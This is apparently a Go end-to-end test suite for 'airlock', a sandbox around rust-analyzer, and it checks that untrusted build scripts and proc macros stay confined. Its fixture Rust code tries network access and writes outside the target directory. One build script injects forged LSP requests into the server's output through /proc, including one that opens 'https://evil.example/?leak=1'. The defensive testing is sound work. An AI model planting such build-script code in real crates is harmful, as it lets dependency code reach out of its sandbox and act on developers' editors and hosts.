package e2e

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"airlock/internal/lsp"
	"airlock/internal/nest"
	"airlock/internal/policy"
	"airlock/internal/testregistry"
	"airlock/internal/toolchain"
)

// rustAnalyzer finds a real rust-analyzer: $AIRLOCK_TEST_RUST_ANALYZER, the
// one .ci/run builds from crates.io, or one on PATH that is not the rustup
// proxy. Outside CI the tests are skipped without one; in CI they fail.
func rustAnalyzer(t *testing.T) string {
	t.Helper()
	cands := []string{os.Getenv("AIRLOCK_TEST_RUST_ANALYZER"), "/opt/rust-analyzer/bin/rust-analyzer"}
	if p, err := exec.LookPath("rust-analyzer"); err == nil {
		if real, _ := filepath.EvalSymlinks(p); !strings.HasPrefix(filepath.Base(real), "rustup") {
			cands = append(cands, p)
		}
	}
	for _, c := range cands {
		if c == "" {
			continue
		}
		if err := exec.Command(c, "--version").Run(); err == nil {
			return c
		}
	}
	msg := "no rust-analyzer binary: set AIRLOCK_TEST_RUST_ANALYZER, or build one as .ci/run does"
	if os.Getenv("CI") != "" {
		t.Fatal(msg)
	}
	t.Skip(msg)
	return ""
}

// lspClient drives airlock rust-analyzer as an editor would.
type lspClient struct {
	t      *testing.T
	cmd    *exec.Cmd
	in     io.WriteCloser
	mu     sync.Mutex
	nextID int
	resp   map[int]chan json.RawMessage
	notes  chan map[string]any
	stderr *strings.Builder
	// requests are the methods of the requests the server sent.
	requests []string
}

func startLSP(t *testing.T, e *env, dir, ra string) *lspClient {
	t.Helper()
	e.extraEnv = append(e.extraEnv, "AIRLOCK_RUST_ANALYZER="+ra)
	cmd := e.command(dir, "rust-analyzer")
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	c := &lspClient{t: t, cmd: cmd, in: in, resp: map[int]chan json.RawMessage{},
		notes: make(chan map[string]any, 1024), stderr: &strings.Builder{}}
	cmd.Stderr = &lockedWriter{w: c.stderr}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	go c.readLoop(out)
	return c
}

type lockedWriter struct {
	mu sync.Mutex
	w  io.Writer
}

func (l *lockedWriter) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.w.Write(p)
}

func (c *lspClient) readLoop(out io.Reader) {
	r := bufio.NewReader(out)
	for {
		m, err := lsp.ReadMessage(r)
		if err != nil {
			close(c.notes)
			return
		}
		var msg struct {
			ID     *json.RawMessage `json:"id"`
			Method string           `json:"method"`
			Result json.RawMessage  `json:"result"`
			Params json.RawMessage  `json:"params"`
		}
		_ = json.Unmarshal(m.Body, &msg)
		switch {
		case msg.Method != "" && msg.ID != nil:
			// A request from the server (progress tokens, registrations):
			// answer it as a plain editor would.
			c.mu.Lock()
			c.requests = append(c.requests, msg.Method)
			c.mu.Unlock()
			c.send(map[string]any{"jsonrpc": "2.0", "id": msg.ID, "result": nil})
		case msg.Method != "":
			var v map[string]any
			_ = json.Unmarshal(m.Body, &v)
			select {
			case c.notes <- v:
			default:
			}
		case msg.ID != nil:
			var id int
			if json.Unmarshal(*msg.ID, &id) == nil {
				c.mu.Lock()
				ch := c.resp[id]
				c.mu.Unlock()
				if ch != nil {
					ch <- msg.Result
				}
			}
		}
	}
}

// openWorkspace initializes the server on ws with plain-text hovers and
// opens src/main.rs with text; it returns that file's URI.
func (c *lspClient) openWorkspace(ws, text string) string {
	root := "file://" + ws
	c.call("initialize", map[string]any{"processId": nil, "rootUri": root,
		"capabilities": map[string]any{"textDocument": map[string]any{"hover": map[string]any{"contentFormat": []string{"plaintext"}}}}},
		60*time.Second)
	c.notify("initialized", map[string]any{})
	uri := root + "/src/main.rs"
	c.notify("textDocument/didOpen", map[string]any{"textDocument": map[string]any{
		"uri": uri, "languageId": "rust", "version": 1, "text": text}})
	return uri
}

func (c *lspClient) send(v any) {
	body, _ := json.Marshal(v)
	c.mu.Lock()
	defer c.mu.Unlock()
	fmt.Fprintf(c.in, "Content-Length: %d\r\n\r\n%s", len(body), body)
}

func (c *lspClient) notify(method string, params any) {
	c.send(map[string]any{"jsonrpc": "2.0", "method": method, "params": params})
}

func (c *lspClient) call(method string, params any, timeout time.Duration) json.RawMessage {
	c.t.Helper()
	c.mu.Lock()
	c.nextID++
	id := c.nextID
	ch := make(chan json.RawMessage, 1)
	c.resp[id] = ch
	c.mu.Unlock()
	c.send(map[string]any{"jsonrpc": "2.0", "id": id, "method": method, "params": params})
	select {
	case r := <-ch:
		return r
	case <-time.After(timeout):
		c.t.Fatalf("%s: no answer in %s\nserver stderr:\n%s", method, timeout, c.stderr.String())
		return nil
	}
}

// position finds the line and character of needle in text.
func position(text, needle string) map[string]int {
	i := strings.Index(text, needle)
	line := strings.Count(text[:i], "\n")
	col := i - strings.LastIndex(text[:i], "\n") - 1
	return map[string]int{"line": line, "character": col}
}

// hoverUntil asks for hover at needle until the answer contains want.
func (c *lspClient) hoverUntil(uri, text, needle, want string, timeout time.Duration) string {
	c.t.Helper()
	deadline := time.Now().Add(timeout)
	last := ""
	for time.Now().Before(deadline) {
		r := c.call("textDocument/hover", map[string]any{
			"textDocument": map[string]any{"uri": uri}, "position": position(text, needle)}, 60*time.Second)
		last = string(r)
		if strings.Contains(last, want) {
			return last
		}
		time.Sleep(500 * time.Millisecond)
	}
	c.t.Fatalf("hover on %q never showed %q; last answer %s\nserver stderr:\n%s", needle, want, last, c.stderr.String())
	return ""
}

// analyzerWorkspace: an app using a registry crate, a build script and a
// proc macro that both try the network and a write outside the target dir.
func analyzerWorkspace(e *env) (string, string) {
	e.publish(testregistry.Crate{Name: "adder", Version: "0.3.1", Files: map[string]string{
		"src/lib.rs": "/// Adds two numbers.\npub fn add(a: i32, b: i32) -> i32 { a + b }\n"}})
	attempt := func(label string) string {
		return `{
        use std::io::Write;
        let net = match std::net::TcpStream::connect("` + e.reg.Addr + `") {
            Ok(mut s) => { let _ = s.write_all(b"GET /attack/` + label + ` HTTP/1.0\r\n\r\n"); "connected".to_string() }
            Err(e) => format!("blocked {}", e.kind() as i32),
        };
        let write = match std::fs::write("` + filepath.Join(e.root, "ra", label+"-pwned") + `", "x") {
            Ok(_) => "written".to_string(),
            Err(e) => format!("denied {}", e.kind() as i32),
        };
        format!("{} {}", net, write).replace(' ', "_")
    }`
	}
	// Symbols are hovered outside macro calls: the test's standard library
	// is a stub without println!.
	mainRS := "use pm::report;\nreport!();\n\nfn main() {\n    let total = adder::add(2, 3);\n    let report = PM_REPORT;\n    println!(\"{} {}\", total, report);\n}\n"
	ws := e.project("ra", map[string]string{
		"Cargo.toml": "[package]\nname = \"raapp\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nadder = \"0.3\"\npm = { path = \"pm\" }\n",
		"build.rs": "fn main() {\n    let r = " + attempt("build-script") + ";\n" +
			"    std::fs::write(format!(\"{}/report.txt\", std::env::var(\"OUT_DIR\").unwrap()), r).unwrap();\n}\n",
		"src/main.rs":   mainRS,
		"pm/Cargo.toml": "[package]\nname = \"pm\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[lib]\nproc-macro = true\n",
		"pm/src/lib.rs": "extern crate proc_macro;\nuse proc_macro::TokenStream;\n\n#[proc_macro]\npub fn report(_: TokenStream) -> TokenStream {\n" +
			"    let r: String = " + attempt("proc-macro") + ";\n" +
			"    format!(\"pub const PM_REPORT: &str = \\\"{}\\\";\", r).parse().unwrap()\n}\n",
	})
	return ws, mainRS
}

// TestRustAnalyzerThroughAirlock drives airlock rust-analyzer as an editor
// would. The toolchain is linked for the test with a rust-src library
// workspace of its own that depends on a test-registry crate: the real one
// needs crates.io, and whether the machine has rust-src must not matter.
func TestRustAnalyzerThroughAirlock(t *testing.T) {
	ra := rustAnalyzer(t)
	e := newEnv(t)
	base, err := toolchain.Resolve(toolchain.Request{Dir: e.root, RustupHome: e.rustup})
	if err != nil {
		t.Fatal(err)
	}
	e.fakeLibrary(e.linkToolchain(base))
	ws, mainRS := analyzerWorkspace(e)
	c := startLSP(t, e, ws, ra)
	root := "file://" + ws
	c.call("initialize", map[string]any{
		"processId": nil, "rootUri": root,
		"capabilities": map[string]any{"window": map[string]any{"workDoneProgress": true},
			"textDocument": map[string]any{"hover": map[string]any{"contentFormat": []string{"plaintext"}}}},
		"initializationOptions": map[string]any{"checkOnSave": false, "procMacro": map[string]any{"enable": true},
			"cargo": map[string]any{"buildScripts": map[string]any{"enable": true}}},
	}, 60*time.Second)
	c.notify("initialized", map[string]any{})
	mainURI := root + "/src/main.rs"
	c.notify("textDocument/didOpen", map[string]any{"textDocument": map[string]any{
		"uri": mainURI, "languageId": "rust", "version": 1, "text": mainRS}})
	if len(e.requestsMatching("/dl/adder/")) != 1 {
		t.Fatalf("the dependency was not fetched before the server started: %v", e.reg.Requests())
	}
	if len(e.requestsMatching("/dl/stddep/0.9.0")) != 1 {
		t.Fatalf("the standard library's dependency was not fetched before the server started: %v", e.reg.Requests())
	}

	// A symbol from a registry dependency resolves.
	c.hoverUntil(mainURI, mainRS, "add(2", "Adds two numbers", 180*time.Second)
	// The proc macro ran inside the sandbox: its expansion carries what it saw.
	h := c.hoverUntil(mainURI, mainRS, "PM_REPORT;", "PM_REPORT", 120*time.Second)
	if !strings.Contains(h, "blocked_") || !strings.Contains(h, "denied_") {
		t.Errorf("the proc macro was not confined: %s", h)
	}
	t.Logf("proc macro expansion seen by hover: %s", h)
	// The build script ran (its report is in the target dir) and was confined.
	deadline := time.Now().Add(60 * time.Second)
	var report []byte
	for time.Now().Before(deadline) {
		if m, _ := filepath.Glob(filepath.Join(ws, "target", "*", "build", "raapp-*", "out", "report.txt")); len(m) > 0 {
			report, _ = os.ReadFile(m[0])
			break
		}
		if m, _ := filepath.Glob(filepath.Join(ws, "target", "*", "*", "build", "raapp-*", "out", "report.txt")); len(m) > 0 {
			report, _ = os.ReadFile(m[0])
			break
		}
		time.Sleep(500 * time.Millisecond)
	}
	t.Logf("build script report: %s", report)
	if !strings.HasPrefix(string(report), "blocked_") || !strings.Contains(string(report), "denied_") {
		t.Errorf("build script report %q: want network blocked and write denied", report)
	}
	for _, f := range []string{"build-script-pwned", "proc-macro-pwned"} {
		if fileExists(filepath.Join(ws, f)) {
			t.Errorf("%s was written outside the target dir", f)
		}
	}

	// Add a dependency in the editor: airlock fetches it and the server
	// reloads, with no restart.
	e.publish(testregistry.Crate{Name: "fresh", Version: "2.1.0", Files: map[string]string{
		"src/lib.rs": "/// Freshly added.\npub fn fresh() -> i32 { 21 }\n"}})
	manifest := mustRead(t, filepath.Join(ws, "Cargo.toml")) + "fresh = \"2\"\n"
	e.write(ws, map[string]string{"Cargo.toml": manifest})
	c.notify("textDocument/didSave", map[string]any{"textDocument": map[string]any{"uri": root + "/Cargo.toml"}})
	newMain := strings.Replace(mainRS, "let total = adder::add(2, 3);", "let total = adder::add(2, 3) + fresh::fresh();", 1)
	c.notify("textDocument/didChange", map[string]any{
		"textDocument":   map[string]any{"uri": mainURI, "version": 2},
		"contentChanges": []map[string]any{{"text": newMain}}})
	c.hoverUntil(mainURI, newMain, "fresh()", "Freshly added", 180*time.Second)
	if len(e.requestsMatching("/dl/fresh/2.1.0")) != 1 {
		t.Errorf("fresh was not fetched by airlock: %v", e.reg.Requests())
	}

	// A manifest changed on disk with no editor message (a git checkout,
	// another tool): airlock notices, fetches, and the server reloads.
	e.publish(testregistry.Crate{Name: "later", Version: "0.7.0", Files: map[string]string{
		"src/lib.rs": "/// Arrived later.\npub fn later() -> i32 { 7 }\n"}})
	e.write(ws, map[string]string{"Cargo.toml": manifest + "later = \"0.7\"\n"})
	laterMain := strings.Replace(newMain, "+ fresh::fresh();", "+ fresh::fresh() + later::later();", 1)
	c.notify("textDocument/didChange", map[string]any{
		"textDocument":   map[string]any{"uri": mainURI, "version": 3},
		"contentChanges": []map[string]any{{"text": laterMain}}})
	c.hoverUntil(mainURI, laterMain, "later()", "Arrived later", 180*time.Second)
	if len(e.requestsMatching("/dl/later/0.7.0")) != 1 {
		t.Errorf("later was not fetched by airlock: %v", e.reg.Requests())
	}
	if got := e.requestsMatching("/attack/"); len(got) != 0 {
		t.Errorf("project code reached the network: %v", got)
	}

	// Shutdown: the server and every sandboxed process end.
	c.call("shutdown", nil, 30*time.Second)
	c.notify("exit", nil)
	c.in.Close()
	done := make(chan error, 1)
	go func() { done <- c.cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("airlock rust-analyzer exited with %v", err)
		}
	case <-time.After(30 * time.Second):
		t.Fatal("airlock rust-analyzer did not exit after the editor closed")
	}
}

func TestRustAnalyzerAnalysisStats(t *testing.T) {
	ra := rustAnalyzer(t)
	e := newEnv(t)
	app := publishTwoDeps(e)
	e.extraEnv = append(e.extraEnv, "AIRLOCK_RUST_ANALYZER="+ra)
	r := e.run(app, "rust-analyzer", "analysis-stats", ".")
	if r.code != 0 {
		t.Fatalf("analysis-stats through airlock:\n%s", r)
	}
	if len(e.requestsMatching("/dl/")) != 2 {
		t.Errorf("the workspace was not fetched first: %v", e.reg.Requests())
	}
	if got := e.requestsMatching("/attack/"); len(got) != 0 {
		t.Errorf("project code reached the network: %v", got)
	}
}

// TestExplainRustAnalyzer: explain shows both plans, the fetches with
// network and the server without, and runs neither.
func TestExplainRustAnalyzer(t *testing.T) {
	ra := rustAnalyzer(t)
	e := newEnv(t)
	base, err := toolchain.Resolve(toolchain.Request{Dir: e.root, RustupHome: e.rustup})
	if err != nil {
		t.Fatal(err)
	}
	lib := e.fakeLibrary(e.linkToolchain(base))
	app := publishTwoDeps(e)
	// Project settings can name commands for the server to run, outside
	// the nested domain: the server must see them empty. (rust-analyzer
	// 0.0.348 did not run such a command in our tries, so this checks the
	// plan, not an attack.)
	e.write(app, map[string]string{"rust-analyzer.toml": "[check]\noverrideCommand = [\"sh\", \"-c\", \"true\"]\n"})
	e.extraEnv = append(e.extraEnv, "AIRLOCK_RUST_ANALYZER="+ra)
	r := e.mustRun(app, "explain", "--json", "rust-analyzer")
	var plan policy.Plan
	if err := json.Unmarshal([]byte(r.stdout), &plan); err != nil {
		t.Fatalf("explain --json: %v\n%s", err, r.stdout)
	}
	var got []string
	for _, p := range plan.Phases {
		got = append(got, fmt.Sprintf("%s net=%v %s", p.Name, p.Network, strings.Join(p.Argv[1:], " ")))
	}
	want := []string{
		"fetch net=true fetch --manifest-path " + filepath.Join(app, "Cargo.toml"),
		"fetch net=true fetch --locked --manifest-path " + filepath.Join(lib, "Cargo.toml"),
		"run net=false ",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") || plan.Phases[2].Argv[0] != ra {
		t.Fatalf("plan phases:\n%s\nwant:\n%s\nserver argv %v", strings.Join(got, "\n"), strings.Join(want, "\n"), plan.Phases[2].Argv)
	}
	if len(e.reg.Requests()) != 0 {
		t.Fatalf("explain made requests: %v", e.reg.Requests())
	}
	hidden := false
	for _, m := range plan.Phases[2].Mounts {
		hidden = hidden || (m.Dst == filepath.Join(app, "rust-analyzer.toml") && m.Src == "/dev/null")
	}
	if !hidden {
		t.Errorf("the project's rust-analyzer.toml is visible to the server")
	}
}

func TestRustAnalyzerRefusesNetwork(t *testing.T) {
	e := newEnv(t)
	app := publishTwoDeps(e)
	r := e.run(app, "--net", "rust-analyzer")
	if r.code == 0 || !strings.Contains(r.stderr, "network access for rust-analyzer is refused") {
		t.Fatalf("--net for the server:\n%s", r)
	}
}

// TestRustAnalyzerEndsWhenTheEditorVanishes: an editor that dies closes the
// server's stdin without a shutdown request; the server and everything it
// started in the sandbox must end anyway.
func TestRustAnalyzerEndsWhenTheEditorVanishes(t *testing.T) {
	ra := rustAnalyzer(t)
	e := newEnv(t)
	ws, mainRS := analyzerWorkspace(e)
	c := startLSP(t, e, ws, ra)
	mainURI := c.openWorkspace(ws, mainRS)
	c.hoverUntil(mainURI, mainRS, "PM_REPORT;", "PM_REPORT", 180*time.Second)
	if len(processesIn(ws)) == 0 {
		t.Fatal("no process of the server found in the workspace")
	}

	c.in.Close()
	done := make(chan error, 1)
	go func() { done <- c.cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		t.Fatal("airlock rust-analyzer did not exit after its stdin closed")
	}
	noneLeft(t, func() []string { return processesIn(ws) })
}

// processesIn lists host processes working in dir or naming it on their
// command line, as "pid cmdline".
func processesIn(dir string) []string {
	return processesWhere(func(cwd, cmdline string) bool {
		return strings.HasPrefix(cwd, dir) || strings.Contains(cmdline, dir)
	})
}

// TestRustAnalyzerForgedRequestsNeverReachTheEditor: a build script run by
// rust-analyzer writes LSP requests into the server's output, asking the
// editor to create a file on the host and open a URL. Landlock keeps it from
// opening the server's output at all; were it to succeed, the proxy would
// still not pass the requests on. The server keeps working.
func TestRustAnalyzerForgedRequestsNeverReachTheEditor(t *testing.T) {
	ra := rustAnalyzer(t)
	e := newEnv(t)
	e.publish(testregistry.Crate{Name: "adder", Version: "0.3.1", Files: map[string]string{
		"src/lib.rs": "/// Adds two numbers.\npub fn add(a: i32, b: i32) -> i32 { a + b }\n"}})
	planted := filepath.Join(e.root, "pwned-by-lsp")
	mainRS := "fn main() {\n    let total = adder::add(2, 3);\n    println!(\"{}\", total);\n}\n"
	ws := e.project("forge", map[string]string{
		"Cargo.toml": "[package]\nname = \"forge\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nadder = \"0.3\"\n",
		"build.rs": `use std::io::Write;
fn main() {
    let bodies = [
        r#"{"jsonrpc":"2.0","id":"forged-1","method":"workspace/applyEdit","params":{"edit":{"documentChanges":[{"kind":"create","uri":"file://` + planted + `"}]}}}"#,
        r#"{"jsonrpc":"2.0","id":"forged-2","method":"window/showDocument","params":{"uri":"https://evil.example/?leak=1","external":true}}"#,
    ];
    let mut report = String::new();
    for e in std::fs::read_dir("/proc").unwrap().flatten() {
        let pid = e.file_name().to_string_lossy().to_string();
        if !pid.chars().all(|c| c.is_ascii_digit()) { continue; }
        let cmd = String::from_utf8_lossy(&std::fs::read(format!("/proc/{}/cmdline", pid)).unwrap_or_default()).to_string();
        if !cmd.split('\0').next().unwrap_or("").ends_with("/rust-analyzer") { continue; }
        for body in bodies {
            let r = std::fs::OpenOptions::new().write(true).open(format!("/proc/{}/fd/1", pid))
                .and_then(|mut f| f.write_all(format!("Content-Length: {}\r\n\r\n{}", body.len(), body).as_bytes()));
            report.push_str(if r.is_ok() { "injected " } else { "denied " });
        }
    }
    std::fs::write(format!("{}/inject.txt", std::env::var("OUT_DIR").unwrap()), report).unwrap();
}
`,
		"src/main.rs": mainRS,
	})
	// Like a rustup install: CARGO_HOME/bin/cargo, which rust-analyzer
	// prefers to $CARGO once it knows the sysroot, runs the real cargo.
	tc, err := toolchain.Resolve(toolchain.Request{Dir: e.root, RustupHome: e.rustup})
	if err != nil {
		t.Fatal(err)
	}
	e.write(e.cargoHome, map[string]string{"bin/cargo": "#!/bin/sh\nexec " + tc.Bin("cargo") + " \"$@\"\n"})
	if err := os.Chmod(filepath.Join(e.cargoHome, "bin", "cargo"), 0o755); err != nil {
		t.Fatal(err)
	}
	c := startLSP(t, e, ws, ra)
	mainURI := c.openWorkspace(ws, mainRS)

	var report []byte
	deadline := time.Now().Add(120 * time.Second)
	for len(report) == 0 && time.Now().Before(deadline) {
		for _, pattern := range []string{"target/*/build/forge-*/out/inject.txt", "target/*/*/build/forge-*/out/inject.txt"} {
			if m, _ := filepath.Glob(filepath.Join(ws, pattern)); len(m) > 0 {
				report, _ = os.ReadFile(m[0])
			}
		}
		time.Sleep(200 * time.Millisecond)
	}
	t.Logf("build script: %q", report)
	if len(report) == 0 {
		t.Fatalf("the build script never ran or found no server\n%s", c.stderr.String())
	}
	// With Landlock, the build script cannot even open the server's output.
	if nest.ABI() >= 1 && strings.Contains(string(report), "injected") {
		t.Errorf("a build script wrote into rust-analyzer's output: %q", report)
	}
	// The server still answers, so everything it wrote has been read.
	c.hoverUntil(mainURI, mainRS, "add(2", "Adds two numbers", 120*time.Second)
	c.mu.Lock()
	got := append([]string(nil), c.requests...)
	c.mu.Unlock()
	for _, m := range got {
		if m == "workspace/applyEdit" || m == "window/showDocument" {
			t.Fatalf("a forged %s reached the editor (server requests: %v)", m, got)
		}
	}
	if fileExists(planted) {
		t.Fatal("the forged edit created a file on the host")
	}
}
